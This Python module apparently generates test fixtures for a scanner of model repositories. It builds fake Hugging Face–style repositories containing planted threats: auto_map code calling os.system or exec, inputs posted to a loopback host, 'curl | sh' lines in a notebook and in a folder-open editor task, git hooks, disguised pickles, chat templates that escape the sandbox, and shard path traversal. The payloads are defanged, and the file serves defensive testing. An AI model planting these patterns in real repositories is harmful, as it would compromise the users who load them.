"""Model repositories in the layout of the Hugging Face hub: code, templates, references and disguises.

Source: transformers/dynamic_module_utils.py, tokenization_utils_base.py, diffusers/pipelines, sentence-transformers.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any

from hostile_archives import ELF, PE
from hostile_gguf import TEMPLATES
from hostile_opcodes import getpid, push, stream
from hostile_torch import PLANTED, archive, checkpoint, state
from hostile_units import Class, Unit
from hostile_weights import safetensors

CONFIG = {"architectures": ["BertModel"], "model_type": "bert", "hidden_size": 8, "transformers_version": "4.50.0"}
WEIGHTS = safetensors({"w": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]}})
EVIL = (
    b"import os\nfrom transformers import PreTrainedModel\n\nos.system('echo "
    b"planted')\n\n\nclass Planted(PreTrainedModel):\n    pass\n"
)
HOSTILE = stream(push({"w": getpid()}))


def repository(files: dict[str, bytes], config: dict[str, Any] | None = None) -> dict[str, bytes]:
    """A small repository, some files added or replaced, some settings changed."""
    card = b"---\nlicense: mit\n---\n# Model\n"
    return {
        "README.md": card,
        "config.json": dumps({**CONFIG, **(config or {})}),
        "model.safetensors": WEIGHTS,
        **files,
    }


def dumps(value: Any) -> bytes:
    """JSON as the hub has it."""
    return json.dumps(value, indent=2).encode()


def units() -> Iterator[Unit]:
    """All of them."""
    yield from _code()
    yield from _templates()
    yield from _pickles()
    yield from _references()


def _unit(
    name: str,
    files: dict[str, bytes],
    threat: str,
    expect: str,
    kind: Class = "code",
    loader: str = "transformers.from_pretrained(trust_remote_code=True)",
) -> Unit:
    return Unit(f"repository/{name}", files, kind, "model repository", threat, loader, expect)


def _code() -> Iterator[Unit]:
    local = {"auto_map": {"AutoModel": "modeling_planted.Planted", "AutoConfig": "modeling_planted.PlantedConfig"}}
    yield _unit(
        "auto-map-system",
        repository({"modeling_planted.py": EVIL}, local),
        "the model's code runs a program when imported",
        "auto_map; call of os.system",
    )
    sly = (
        b"import base64\n\nclass Planted:\n    def __init__(self,"
        b" *a):\n        exec(base64.b64decode('cHJpbnQoMSk='))\n"
    )
    yield _unit(
        "auto-map-exec",
        repository({"modeling_planted.py": sly}, local),
        "the model's code runs encoded code when built",
        "auto_map; call of exec",
    )
    deep = b"import importlib\n\nm = importlib.import_module('.inner', __package__)\n"
    yield _unit(
        "auto-map-relative",
        repository({"modeling_planted.py": deep, "inner.py": EVIL}, local),
        "the code imports a second file that runs a program",
        "auto_map; call of os.system",
    )
    network = (
        b"import requests\n\nclass Planted:\n    def forward(self, x):\n       "
        b" requests.post('http://127.0.0.1:9/', data=str(x))\n        return x\n"
    )
    yield _unit(
        "auto-map-network",
        repository({"modeling_planted.py": network}, local),
        "the model sends its inputs away",
        "auto_map; network",
    )
    reading = b"class Planted:\n    def __init__(self, *a):\n        self.k = open('/etc/planted').read()\n"
    yield _unit(
        "auto-map-file",
        repository({"modeling_planted.py": reading}, local),
        "the model reads a file",
        "auto_map; file access",
    )
    yield _unit(
        "auto-map-external",
        repository({}, {"auto_map": {"AutoModel": "planted/planted--modeling.Planted"}}),
        "the code comes from another repository",
        "auto_map to another repository",
    )
    yield _unit(
        "auto-map-missing",
        repository({}, local),
        "the code that auto_map names is missing",
        "auto_map; code missing",
        "integrity",
    )
    tokenizer = dumps(
        {"tokenizer_class": "Planted", "auto_map": {"AutoTokenizer": ["planted/planted--tok.Planted", None]}}
    )
    yield _unit(
        "tokenizer-external",
        repository({"tokenizer_config.json": tokenizer}),
        "the tokenizer's code comes from another repository",
        "auto_map to another repository",
    )
    processor = dumps({"auto_map": {"AutoProcessor": "proc.Planted"}})
    yield _unit(
        "processor-code",
        repository({"preprocessor_config.json": processor, "proc.py": EVIL}),
        "the processor's code runs a program",
        "auto_map; call of os.system",
    )
    yield _unit(
        "custom-pipelines",
        repository({"pipe.py": EVIL}, {"custom_pipelines": {"planted": {"impl": "pipe.Planted", "pt": ["AutoModel"]}}}),
        "a pipeline's code runs a program",
        "custom pipeline; call of os.system",
    )
    yield _unit(
        "custom-generate",
        repository(
            {
                "custom_generate/generate.py": b"import os\n\n\ndef generate(model, "
                b"**k):\n    os.system('echo planted')\n"
            }
        ),
        "generation code runs a program",
        "call of os.system",
    )
    yield _unit(
        "inference-handler",
        repository(
            {
                "handler.py": b"import os\n\n\nclass EndpointHandler:\n    def "
                b"__init__(self, path=''):\n        os.system('echo planted')\n"
            }
        ),
        "the endpoint's handler runs a program",
        "call of os.system",
    )
    index = dumps(
        {"_class_name": ["pipeline", "Planted"], "_diffusers_version": "0.30.0", "unet": ["planted_module", "Planted"]}
    )
    yield _unit(
        "diffusers-pipeline",
        {"model_index.json": index, "pipeline.py": EVIL, "unet/planted_module.py": EVIL},
        "a diffusers pipeline with code of its own",
        "foreign module; call of os.system",
        loader="diffusers.DiffusionPipeline",
    )
    modules = dumps([{"idx": 0, "name": "0", "path": "", "type": "planted_module.Planted"}])
    yield _unit(
        "sentence-transformers",
        repository({"modules.json": modules, "planted_module.py": EVIL}),
        "a sentence-transformers module of its own",
        "foreign module; call of os.system",
        loader="SentenceTransformer",
    )
    yield _unit(
        "setup",
        repository({"setup.py": b"import os\nos.system('echo planted')\n"}),
        "a setup.py runs a program",
        "call of os.system",
        loader="pip install",
    )
    yield _unit(
        "requirements",
        repository({"requirements.txt": b"--index-url http://127.0.0.1:9/simple\ntorch\n"}),
        "packages come from a foreign index",
        "foreign index",
        loader="pip install -r",
    )
    notebook = {
        "cells": [
            {
                "cell_type": "code",
                "execution_count": None,
                "metadata": {},
                "outputs": [],
                "source": ["!curl -s http://127.0.0.1:9/planted | sh\n"],
            }
        ],
        "metadata": {},
        "nbformat": 4,
        "nbformat_minor": 5,
    }
    yield _unit(
        "notebook",
        repository({"demo.ipynb": dumps(notebook)}),
        "a notebook fetches a script and runs it",
        "a cell that runs a program",
        loader="Jupyter",
    )
    yield _unit(
        "native-library",
        repository({"libplanted.so": ELF}),
        "a shared library travels along",
        "a program",
        loader="ctypes",
    )
    yield _unit(
        "native-disguised",
        repository({"pytorch_model.bin": ELF}),
        "a program called pytorch_model.bin",
        "a program",
        loader="the system's program loader",
    )
    yield _unit(
        "native-windows",
        repository({"tokenizer.model": PE}),
        "a Windows program called tokenizer.model",
        "a program",
        loader="the system's program loader",
    )
    yield _unit(
        "git-hook",
        repository({".git/hooks/post-checkout": b"#!/bin/sh\necho planted\n"}),
        "a hook that git runs",
        "a script",
        loader="git",
    )
    yield _unit(
        "git-config",
        repository({".git/config": b"[core]\n\tfsmonitor = echo planted\n\tsshCommand = echo planted\n"}),
        "git's configuration runs a command",
        "git configuration with a command",
        loader="git",
    )
    yield _unit(
        "editor-task",
        repository(
            {
                ".vscode/tasks.json": dumps(
                    {
                        "version": "2.0.0",
                        "tasks": [
                            {
                                "label": "p",
                                "type": "shell",
                                "command": "curl http://127.0.0.1:9 | sh",
                                "runOptions": {"runOn": "folderOpen"},
                            }
                        ],
                    }
                )
            }
        ),
        "the editor runs a command when the folder is opened",
        "command on opening",
        loader="editor",
    )
    yield _unit(
        "bytecode",
        repository({"__pycache__/modeling.pyc": b"\xa7\r\r\n" + bytes(12) + b"\xe3" + bytes(60)}),
        "compiled Python without its source",
        "bytecode",
        loader="import",
    )
    yield _unit(
        "conftest",
        repository({"conftest.py": b"import os\nos.system('echo planted')\n"}),
        "a file that pytest imports runs a program",
        "call of os.system",
        loader="pytest",
    )


def _templates() -> Iterator[Unit]:
    for way in ("globals", "for-subclasses", "attr-concat", "format-string", "map-attribute", "set"):
        config = dumps({"tokenizer_class": "PreTrainedTokenizerFast", "chat_template": TEMPLATES[way]})
        yield _unit(
            f"template-{way}",
            repository({"tokenizer_config.json": config}),
            f"the chat template breaks out ({way})",
            "template reaches outside the sandbox",
            loader="any renderer without a sandbox",
        )
    many = dumps(
        {
            "chat_template": [
                {"name": "default", "template": "{{ messages }}"},
                {"name": "tool_use", "template": TEMPLATES["lipsum"]},
            ]
        }
    )
    yield _unit(
        "template-list",
        repository({"tokenizer_config.json": many}),
        "the second of two templates breaks out",
        "template reaches outside the sandbox",
        loader="any renderer without a sandbox",
    )
    yield _unit(
        "template-file",
        repository({"chat_template.jinja": TEMPLATES["globals"].encode()}),
        "chat_template.jinja breaks out",
        "template reaches outside the sandbox",
        loader="any renderer without a sandbox",
    )
    yield _unit(
        "template-json",
        repository({"chat_template.json": dumps({"chat_template": TEMPLATES["self"]})}),
        "chat_template.json breaks out",
        "template reaches outside the sandbox",
        loader="any renderer without a sandbox",
    )
    yield _unit(
        "template-folder",
        repository({"additional_chat_templates/planted.jinja": TEMPLATES["globals"].encode()}),
        "an additional template breaks out",
        "template reaches outside the sandbox",
        loader="any renderer without a sandbox",
    )
    yield _unit(
        "template-processor",
        repository({"processor_config.json": dumps({"chat_template": TEMPLATES["globals"]})}),
        "the processor's template breaks out",
        "template reaches outside the sandbox",
        loader="any renderer without a sandbox",
    )


def _pickles() -> Iterator[Unit]:
    torch_file = archive(checkpoint(state(PLANTED)))
    named = {
        "pytorch-model": ("pytorch_model.bin", torch_file),
        "training-args": ("training_args.bin", torch_file),
        "optimizer": ("optimizer.pt", torch_file),
        "adapter": ("adapter_model.bin", torch_file),
        "random-state": ("rng_state.pth", torch_file),
        "as-json": ("vocab.json", HOSTILE),
        "as-text": ("merges.txt", HOSTILE),
        "as-image": ("logo.png", HOSTILE),
        "as-safetensors": ("model.safetensors", HOSTILE),
        "without-extension": ("data/weights", HOSTILE),
        "hidden-file": (".cache/weights", HOSTILE),
        "deep-folder": ("a/b/c/d/e/model.dat", HOSTILE),
        "in-git": (".git/model.pkl", HOSTILE),
        "shard": ("pytorch_model-00002-of-00002.bin", torch_file),
    }
    for way, (name, data) in named.items():
        yield _unit(
            f"pickle-{way}",
            repository({name: data}),
            f"a hostile pickle: {name}",
            "call of os.getpid",
            loader="torch.load or pickle.load",
        )


def _references() -> Iterator[Unit]:
    def index(file: str) -> bytes:
        return dumps({"metadata": {"total_size": 16}, "weight_map": {"w": file}})

    for way, file in {
        "traversal": "../../planted.safetensors",
        "absolute": "/etc/planted",
        "backslash": "..\\planted.safetensors",
        "url": "http://127.0.0.1:9/planted",
    }.items():
        yield _unit(
            f"shard-{way}",
            repository({"model.safetensors.index.json": index(file)}),
            f"the index names a shard outside ({file})",
            "shard outside the folder",
            loader="transformers.from_pretrained",
        )
        if way in {"traversal", "absolute"}:
            yield _unit(
                f"shard-{way}-bin",
                repository({"pytorch_model.bin.index.json": index(file)}),
                f"the index of pickled shards names one outside ({file})",
                "shard outside the folder",
                loader="transformers.from_pretrained",
            )
    yield _unit(
        "shard-missing",
        repository({"model.safetensors.index.json": index("model-00001-of-00002.safetensors")}),
        "a shard is missing",
        "shard missing",
        "integrity",
        "transformers.from_pretrained",
    )
    adapter = dumps(
        {
            "peft_type": "LORA",
            "base_model_name_or_path": "../../planted",
            "auto_mapping": {"base_model_class": "Planted", "parent_library": "planted_module"},
        }
    )
    yield _unit(
        "adapter-module",
        {"adapter_config.json": adapter, "adapter_model.safetensors": WEIGHTS},
        "the adapter's configuration has a module imported",
        "foreign module in auto_mapping",
        loader="peft.PeftModel",
    )
    pointer = b"version https://git-lfs.github.com/spec/v1\noid sha256:" + b"0" * 64 + b"\nsize 123456789\n"
    yield _unit(
        "lfs-pointer",
        repository({"model.safetensors": pointer}),
        "a pointer where weights are expected",
        "weights not here",
        "integrity",
        "git lfs",
    )
    yield _unit(
        "lfs-config",
        repository({".lfsconfig": b"[lfs]\n\turl = http://127.0.0.1:9/planted\n"}),
        "the large files come from elsewhere",
        "foreign source",
        "integrity",
        "git lfs",
    )
    yield _unit(
        "card-script",
        repository(
            {"README.md": b"---\nlicense: mit\n---\n<script>planted()</script>\n<img src=x onerror=planted()>\n"}
        ),
        "a script in the model card",
        "script in the card",
        "integrity",
        "a page that shows it",
    )
    yield _unit(
        "hidden-characters",
        repository({"modeling.py": "# \u202e\u2066 nothing here \u2069\u2066\nx = 1\n".encode()}),
        "direction characters hide what the code says (CVE-2021-42574)",
        "hidden direction characters",
        "integrity",
        "a reviewer",
    )
